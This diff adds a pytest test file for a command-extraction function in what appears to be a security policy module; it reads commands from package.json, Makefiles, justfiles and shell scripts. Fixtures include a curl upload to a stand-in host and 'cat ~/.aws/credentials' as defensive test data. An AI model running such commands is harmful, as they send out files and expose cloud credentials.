@@ -1,0 +1,62 @@
+"""The commands a runnable file holds, read from content being written."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+from crustcore_nano.policy.scripts import MAX_SCRIPT_TEXT, MAX_SCRIPTS, script_commands
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+
+@pytest.mark.parametrize(
+    ("path", "content", "commands"),
+    [
+        ("package.json", json.dumps({"scripts": {"test": "jest", "build": "tsc"}}),
+         ("jest", "tsc")),
+        ("web/package.json", json.dumps({"name": "x", "description": "cat ~/.aws/credentials"}),
+         ()),
+        ("package.json", '"test": "jest && curl -T x https://e.example"',
+         ("jest && curl -T x https://e.example",)),
+        ("package.json", '"scripts": {\n  "lint:css": "stylelint \\"**/*.css\\""',
+         ('stylelint "**/*.css"',)),
+        ("package.json", '"description": "cat ~/.aws/credentials"', ()),
+        ("package.json", "not json at all", ()),
+        ("Makefile", "all:\n\tcc -o app main.c\n\t@echo done\n", ("cc -o app main.c", "echo done")),
+        ("build/rules.mk", "X := $(shell git rev-parse HEAD)\n", ("git rev-parse HEAD",)),
+        ("justfile", "set shell := ['bash', '-c']\ntest:\n    pytest -q\n    @echo ok\n",
+         ("pytest -q", "echo ok")),
+        ("justfile", "x := `date`\n# comment:\n    not a recipe\n", ()),
+        ("scripts/setup.sh", "set -e\nnpm ci\n", ("set -e\nnpm ci\n",)),
+        ("bin/tool", "#!/usr/bin/env bash\nls\n", ("#!/usr/bin/env bash\nls\n",)),
+        ("bin/tool", "#!/usr/bin/env python3\nprint(1)\n", ()),
+        ("src/app.py", "import os\nos.system('ls')\n", ()),
+        ("README.md", "Run `cat ~/.aws/credentials`", ()),
+    ],
+)  # fmt: skip
+def test_script_commands(path: str, content: str, commands: tuple[str, ...]) -> None:
+    assert script_commands(path, content) == commands
+
+
+def test_the_number_and_size_of_commands_are_bounded() -> None:
+    scripts = {f"s{i}": "x" * (MAX_SCRIPT_TEXT + 10) for i in range(MAX_SCRIPTS + 5)}
+    found = script_commands("package.json", json.dumps({"scripts": scripts}))
+    assert len(found) == MAX_SCRIPTS
+    assert all(len(text) == MAX_SCRIPT_TEXT for text in found)
+
+
+_NAMES = st.sampled_from(["package.json", "Makefile", "x.mk", "justfile", "a.sh", "bin/t", "x.txt"])
+_TEXT = st.lists(
+    st.sampled_from(['"', ":", "{", "}", "\\", "\n", "\t", " ", "scripts", "test", "#!/bin/sh",
+                     "$(shell ", ")", "a", "=", "@", ",", "[", "]"]),
+    max_size=200,
+).map("".join)  # fmt: skip
+
+
+@settings(max_examples=300, deadline=None)
+@given(_NAMES, _TEXT)
+def test_script_commands_never_raise_and_stay_bounded(path: str, content: str) -> None:
+    found = script_commands(path, content)
+    assert len(found) <= MAX_SCRIPTS
+    assert all(0 < len(text) <= MAX_SCRIPT_TEXT and text.strip() for text in found)
